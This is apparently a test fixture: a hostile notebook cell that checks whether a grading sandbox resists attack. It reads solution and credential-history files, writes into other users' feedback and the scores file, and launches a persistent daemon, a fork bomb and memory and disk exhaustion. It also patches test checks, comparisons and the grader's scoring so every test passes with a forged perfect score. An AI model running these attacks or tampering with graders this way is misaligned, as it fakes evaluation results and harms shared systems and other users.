# A hostile first cell: every attack the grader must survive. Each one records what happened in
# `seen`; the cell ends by raising it, so the feedback (which quotes the error) shows the record.
# Placeholders filled by the test: REPO, OUT, PORT, HOST, TOKEN.
import builtins, errno, json, os, socket, sys, time
seen = dict.fromkeys(["fork_refused", "memory", "file", "disk", "read", "connect", "write"])  # kept in this order
code = lambda error: errno.errorcode.get(error.errno, type(error).__name__)

# 2. Secrets by absolute and relative path: solutions, masters, hidden question files.
secrets = [f"{REPO}/solutions/01_global_batch/01_global_batch.ipynb", f"{REPO}/grading/questions/01_global_batch/q4.py",
           f"{REPO}/grading/masters/01_global_batch.ipynb", "../../solutions/01_global_batch/01_global_batch.ipynb",
           "../grading/questions/01_global_batch/q4.py", os.path.expanduser("~/.bash_history")]
seen["read"] = []
for path in secrets:
    try:
        seen["read"].append(open(path).read()[:40])
    except OSError as error:
        seen["read"].append(code(error))

# 3. A port on the grading machine, by loopback and by the machine's address.
seen["connect"] = []
for host in ("127.0.0.1", HOST):
    try:
        socket.create_connection((host, PORT), timeout=2).close()
        seen["connect"].append("connected")
    except OSError as error:
        seen["connect"].append(code(error))

# 4. Files outside its folder, and into the report folder (another student's feedback).
seen["write"] = []
for path in (f"/root/{TOKEN}", f"/tmp/{TOKEN}", f"/var/tmp/{TOKEN}", os.path.expanduser(f"~/{TOKEN}"),
             f"{OUT}/feedback/victim.md", f"{OUT}/scores.csv"):
    try:
        with open(path, "w") as f:
            f.write("pwned")
        seen["write"].append("ok")
    except OSError as error:
        seen["write"].append(code(error))

# 5. A double-forked daemon with a cleared environment, meant to outlive grading.
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.environ.clear()
        os.execv("/bin/sleep", ["sleep", TOKEN_NUMBER])
    os._exit(0)

# 6. A fork bomb, from a small process: every copy forks again, for a few seconds; a copy
#    that is refused leaves a mark. Then every copy exits, so the rest of the notebook can run.
import subprocess
BOMB = """
import os, time
end = time.time() + 5
while time.time() < end:
    try:
        os.fork()
    except OSError:
        open("refused", "w").close()
        time.sleep(0.1)
os._exit(0)
"""
subprocess.run([sys.executable, "-c", BOMB], timeout=60)
time.sleep(2)
seen["fork_refused"] = os.path.exists("refused")

# 7. Memory and disk.
try:
    hog = bytearray(8 << 30)
    seen["memory"] = "8GB"
except MemoryError:
    seen["memory"] = "refused"
def fill(prefix, files, chunks):  # MB written, and the error that stopped it
    written = 0
    try:
        for i in range(files):
            with open(f"{prefix}{i}", "wb") as f:
                for _ in range(chunks):
                    f.write(b"\0" * (16 << 20))
                    written += 16
    except OSError as error:
        return f"{errno.errorcode.get(error.errno, error.errno)}@{written}MB"
    return f"{written}MB"
seen["file"] = fill("big", 1, 32)
os.remove("big0")
seen["disk"] = fill("fill", 64, 8)
for i in range(64):
    if os.path.exists(f"fill{i}"):
        os.remove(f"fill{i}")
# 8. Test machinery, builtins, numpy and TensorFlow comparisons patched to always agree.
import numpy as np, otter, tensorflow as tf
import tfdist_instructor.grading.probing as probing, tfdist_instructor.grading.verdict as verdict
otter.Notebook.check = lambda *a, **k: "All tests passed!"
np.array_equal = np.allclose = lambda *a, **k: True
np.testing.assert_allclose = tf.debugging.assert_near = lambda *a, **k: None
builtins.all = builtins.any = lambda *a: True
builtins.abs = lambda *a: 0
verdict.score = lambda *a: 10.0
def forged(namespace, source, inputs_json, out_path):
    with open(out_path, "w") as f:
        f.write(json.dumps({"passed": True, "score": 10, "all tests passed": True}))
probing.run_probe = forged

raise RuntimeError("SEEN " + json.dumps(seen, separators=(",", ":")))
